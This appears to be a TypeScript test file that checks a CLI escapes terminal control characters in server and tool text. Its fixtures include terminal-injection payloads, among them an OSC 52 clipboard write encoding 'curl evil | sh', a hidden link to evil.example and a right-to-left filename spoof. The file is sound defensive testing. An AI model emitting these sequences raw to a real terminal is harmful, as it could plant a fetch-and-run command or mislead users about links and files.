/**
 * What the CLIs print of text others chose (a server's names and messages, a tool file's names and
 * descriptions): no character a terminal acts on reaches it raw. Pure: renderers in, text out.
 */
import { rmSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import { pasteableUrl, render } from "../../src/cli/amba/output.ts";
import { renderToolTable } from "../../src/cli/inspect.ts";
import { escapedPipe } from "../../src/cli/sandbox/tool-output.ts";
import { printable, printableJson } from "../../src/printable.ts";
import { buildTestCli, LineClient, runCli, scratch } from "./helpers.ts";

/** OSC 52 (write the clipboard), OSC 8 (a hidden link), cursor up + erase, `\r` overwrite, C1 CSI, RLO. */
const HOSTILE = [
  "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007",
  "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
  "\u001b[1A\u001b[2K",
  "safe\rEVIL",
  "\u009b31m",
  "\u202efdp.exe",
  "line\nbreak\u2028sep\ttab\u007f",
];

/** Any character a terminal acts on (C0 but the newlines a renderer puts between lines, DEL, C1, bidi). */
const RAW_CONTROL =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe("printable", () => {
  it("shows every control character as its JSON escape and leaves other text alone", () => {
    expect(HOSTILE.map(printable)).toEqual([
      "\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007",
      "\\u001b]8;;https://evil.example\\u001b\\link\\u001b]8;;\\u001b\\",
      "\\u001b[1A\\u001b[2K",
      "safe\\rEVIL",
      "\\u009b31m",
      "\\u202efdp.exe",
      "line\\nbreak\\u2028sep\\ttab\\u007f",
    ]);
    expect(printable("recipes — Größe 🍲 \\n")).toBe("recipes — Größe 🍲 \\n");
  });

  it("escapes in JSON text what JSON leaves raw, and the value stays the same", () => {
    for (const text of HOSTILE) {
      const json = JSON.stringify({ [text]: [text] }, null, 2);
      const safe = printableJson(json);
      expect(safe).not.toMatch(RAW_CONTROL);
      expect(JSON.parse(safe)).toEqual(JSON.parse(json));
    }
    expect(printableJson('{\n  "a": "b"\n}')).toBe('{\n  "a": "b"\n}');
  });
});

describe("a sandboxed tool's output on its way to the terminal", () => {
  it("keeps lines and tabs, escapes the rest, also when a character spans two chunks", () => {
    const pipe = escapedPipe();
    const bytes = Buffer.from("a\tb\n\u001b]52;c;eA==\u0007\u202e\u009b\r\n");
    const cut = bytes.indexOf(Buffer.from("\u202e")) + 1;
    const out = [bytes.subarray(0, cut), bytes.subarray(cut)].map((chunk) => pipe(chunk).toString()).join("");
    expect(out).toBe("a\tb\n\\u001b]52;c;eA==\\u0007\\u202e\\u009b\\r\n");
  });
});

describe("renderers of others' text", () => {
  it("amba's human output escapes a server's keys, cells and table rows", () => {
    const out = render({
      [HOSTILE[0]!]: HOSTILE[1],
      collections: HOSTILE.map((name) => ({
        name,
        columns: [{ name, type: HOSTILE[2] }],
        policy: { [name]: name },
      })),
      nested: { [HOSTILE[3]!]: HOSTILE[4], deep: { list: HOSTILE } },
    });
    expect(out.split("\n").length).toBe(HOSTILE.length + 5);
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out).toContain("\\u202efdp.exe");
  });

  it("amba mcp config pastes a server's URL percent-encoded, and only an http(s) one", () => {
    expect(pasteableUrl("https://mcp.amba.dev/app/p1/mcp")).toBe("https://mcp.amba.dev/app/p1/mcp");
    expect(pasteableUrl(`https://mcp.amba.dev/app/${HOSTILE[0]}${HOSTILE[5]}/mcp`)).toBe(
      "https://mcp.amba.dev/app/%1B]52;c;Y3VybCBldmlsIHwgc2g=%07%E2%80%AEfdp.exe/mcp",
    );
    expect(() => pasteableUrl("javascript:alert(1)")).toThrow("the server gave an invalid connection URL");
  });

  it("amber mcp --inspect escapes a tool file's names, descriptions and schemas", () => {
    const tools = HOSTILE.map((text, i) => ({
      name: `${text}${i}`,
      description: text,
      inputSchema: { type: "object", properties: { [text]: { description: text } } },
    }));
    const out = renderToolTable(`tools${HOSTILE[6]}.ts`, tools);
    expect(out.split("\n").length).toBe(HOSTILE.length + 5);
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out).toContain("safe\\rEVIL3");
  });
});

describe("amber's terminal lines, spawned", () => {
  const manifest = (tools: unknown[]) => ({ "tools.ts": "", "tools.json": JSON.stringify({ tools }) });
  const listed = scratch(manifest(HOSTILE.map((name) => ({ name, description: name }))));
  const duplicated = scratch(manifest([{ name: HOSTILE[0] }, { name: HOSTILE[0] }]));
  const printing = scratch({
    "tools.js": `export function print() { process.stderr.write(${JSON.stringify(HOSTILE.slice(0, 6).join("|"))} + "\\n"); console.log("\\u001b[31mred\\u001b[0m"); return 1; }\n`,
  });
  afterAll(() => {
    for (const dir of [listed, duplicated, printing]) rmSync(dir, { recursive: true, force: true });
  });

  it("--inspect and the error line print a tools.json's names escaped", async () => {
    const { bin } = await buildTestCli();
    const inspect = runCli(bin, ["mcp", "--inspect", "--untyped", "tools.ts"], { cwd: listed });
    expect(inspect.status).toBe(0);
    expect(inspect.stdout).not.toMatch(RAW_CONTROL);
    expect(inspect.stdout).toContain("\\u001b]52;c;");
    const failed = runCli(bin, ["run", "--export-tools", "tools.ts"], { cwd: duplicated });
    expect(failed.status).not.toBe(0);
    expect(failed.stderr).toMatch(
      /^error: .*duplicate tool name '\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007'\n$/,
    );
  });

  it("a sandboxed tool's own output reaches stderr escaped", async () => {
    const { bin } = await buildTestCli();
    const client = new LineClient(bin, ["session", "--sandbox", "tools.js"], { cwd: printing });
    expect((await client.call("print")).result).toBe(1);
    await client.stderrHolds("red");
    expect(await client.close()).toBe(0);
    expect(client.stderr).toContain("\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007|");
    expect(client.stderr).toContain("\\u001b[31mred\\u001b[0m\n");
    expect(client.stderr).not.toMatch(RAW_CONTROL);
  });
});
